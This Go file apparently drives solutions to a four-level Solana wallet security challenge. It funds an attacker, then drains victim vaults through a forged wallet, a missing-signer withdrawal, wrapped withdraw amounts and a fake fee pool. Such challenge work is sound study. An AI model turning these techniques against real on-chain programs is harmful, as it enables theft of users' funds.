package scenario

import (
	"context"
	"fmt"

	"github.com/gagliardetto/solana-go"

	"vault-cli/exploit"
	"vault-cli/programs/tip"
	"vault-cli/programs/walletv0"
	"vault-cli/programs/walletv1"
	"vault-cli/programs/walletv2"
)

// AttackerAirdrop is the small balance the attacker starts every run with.
const AttackerAirdrop = solana.LAMPORTS_PER_SOL

// prepareAttacker funds the attacker and records its starting balance.
func (r *Runner) prepareAttacker(ctx context.Context, report *Report) (solana.PrivateKey, error) {
	attacker, err := r.key(exploit.RoleAttacker)
	if err != nil {
		return nil, err
	}

	if err := r.chain.RequestAirdrop(ctx, attacker.PublicKey(), AttackerAirdrop); err != nil {
		return nil, fmt.Errorf("failed to fund attacker: %w", err)
	}

	report.BalanceBefore, err = r.chain.GetBalance(ctx, attacker.PublicKey())
	if err != nil {
		return nil, err
	}
	report.Accounts["attacker"] = attacker.PublicKey()

	r.logger.Info().
		Str("level", report.Level).
		Str("attacker", attacker.PublicKey().String()).
		Uint64("balance", report.BalanceBefore).
		Msg("attacker funded")
	return attacker, nil
}

func (r *Runner) target(ctx context.Context, report *Report, target solana.PublicKey) error {
	amount, err := r.chain.GetBalance(ctx, target)
	if err != nil {
		return err
	}
	report.Target = target
	report.Amount = amount

	r.logger.Info().
		Str("level", report.Level).
		Str("target", target.String()).
		Uint64("amount", amount).
		Msg("funds to steal")
	return nil
}

func (r *Runner) finish(ctx context.Context, report *Report, attacker solana.PublicKey) (*Report, error) {
	balance, err := r.chain.GetBalance(ctx, attacker)
	if err != nil {
		return nil, err
	}
	report.BalanceAfter = balance

	r.logger.Info().
		Str("level", report.Level).
		Uint64("before", report.BalanceBefore).
		Uint64("after", report.BalanceAfter).
		Msg("exploit finished")
	return report, nil
}

// ExploitLevel0 forges a wallet under the attacker program that claims the
// victim's wallet-v0 vault, then withdraws the whole vault through it.
func (r *Runner) ExploitLevel0(ctx context.Context) (*Report, error) {
	report := newReport("level0")

	victim, err := r.victimAuthority()
	if err != nil {
		return nil, err
	}
	attacker, err := r.prepareAttacker(ctx, report)
	if err != nil {
		return nil, err
	}

	wallet, _, err := walletv0.WalletAddress(r.programs.Level0, victim)
	if err != nil {
		return nil, fmt.Errorf("failed to derive victim wallet: %w", err)
	}
	info, err := r.chain.GetAccountInfo(ctx, wallet)
	if err != nil {
		return nil, err
	}
	if info == nil {
		return nil, fmt.Errorf("victim wallet %s not found", wallet)
	}
	_, vault, err := walletv0.DecodeWalletData(info.Data)
	if err != nil {
		return nil, fmt.Errorf("failed to decode victim wallet: %w", err)
	}
	report.Accounts["wallet"] = wallet

	if err := r.target(ctx, report, vault); err != nil {
		return nil, err
	}

	plan, err := exploit.FakeWallet(r.programs.Level0, r.programs.Attacker, attacker.PublicKey(), vault, report.Amount)
	if err != nil {
		return nil, err
	}
	if err := r.Execute(ctx, report, plan); err != nil {
		return nil, err
	}
	return r.finish(ctx, report, attacker.PublicKey())
}

// ExploitLevel1 withdraws the victim's wallet-v1 balance without the
// victim's signature.
func (r *Runner) ExploitLevel1(ctx context.Context) (*Report, error) {
	report := newReport("level1")

	victim, err := r.victimAuthority()
	if err != nil {
		return nil, err
	}
	attacker, err := r.prepareAttacker(ctx, report)
	if err != nil {
		return nil, err
	}

	wallet, _, err := walletv1.WalletAddress(r.programs.Level1, victim)
	if err != nil {
		return nil, fmt.Errorf("failed to derive victim wallet: %w", err)
	}
	if err := r.target(ctx, report, wallet); err != nil {
		return nil, err
	}

	plan, err := exploit.MissingSigner(r.programs.Level1, victim, attacker.PublicKey(), report.Amount)
	if err != nil {
		return nil, err
	}
	if err := r.Execute(ctx, report, plan); err != nil {
		return nil, err
	}
	return r.finish(ctx, report, attacker.PublicKey())
}

// ExploitLevel2 drains the victim's wallet-v2 wallet in rent sized steps
// using wrapped withdraw amounts.
func (r *Runner) ExploitLevel2(ctx context.Context) (*Report, error) {
	report := newReport("level2")

	victim, err := r.victimAuthority()
	if err != nil {
		return nil, err
	}
	attacker, err := r.prepareAttacker(ctx, report)
	if err != nil {
		return nil, err
	}

	victimWallet, _, err := walletv2.WalletAddress(r.programs.Level2, victim)
	if err != nil {
		return nil, fmt.Errorf("failed to derive victim wallet: %w", err)
	}
	if err := r.target(ctx, report, victimWallet); err != nil {
		return nil, err
	}

	rent, err := r.chain.GetMinimumBalanceForRentExemption(ctx, walletv2.WalletLen)
	if err != nil {
		return nil, err
	}

	plan, err := exploit.WrappedDrain(r.programs.Level2, attacker.PublicKey(), victimWallet, report.Amount, rent)
	if err != nil {
		return nil, err
	}

	// a wallet left over from an earlier run cannot be initialized again
	attackerWallet := plan.Accounts["attacker_wallet"]
	existing, err := r.chain.GetAccountInfo(ctx, attackerWallet)
	if err != nil {
		return nil, err
	}
	if existing != nil {
		r.logger.Info().
			Str("wallet", attackerWallet.String()).
			Msg("attacker wallet exists, skipping initialize")
		plan.Steps = plan.Steps[1:]
	}

	r.logger.Info().
		Uint64("rent", rent).
		Int("withdraws", len(plan.Steps)).
		Msg("draining")

	if err := r.Execute(ctx, report, plan); err != nil {
		return nil, err
	}
	return r.finish(ctx, report, attacker.PublicKey())
}

// ExploitLevel3 creates a fake pool whose fee slot grants the whole tip
// vault to the attacker, then withdraws through it.
func (r *Runner) ExploitLevel3(ctx context.Context) (*Report, error) {
	report := newReport("level3")

	attacker, err := r.prepareAttacker(ctx, report)
	if err != nil {
		return nil, err
	}

	vault, _, err := tip.VaultAddress(r.programs.Level3)
	if err != nil {
		return nil, fmt.Errorf("failed to derive tip vault: %w", err)
	}
	if err := r.target(ctx, report, vault); err != nil {
		return nil, err
	}

	bump, err := exploit.FakePoolBump(r.programs.Level3)
	if err != nil {
		return nil, fmt.Errorf("failed to pick fake pool bump: %w", err)
	}

	plan, err := exploit.FeeRedirect(r.programs.Level3, bump, attacker.PublicKey(), vault, report.Amount)
	if err != nil {
		return nil, err
	}
	if err := r.Execute(ctx, report, plan); err != nil {
		return nil, err
	}
	return r.finish(ctx, report, attacker.PublicKey())
}
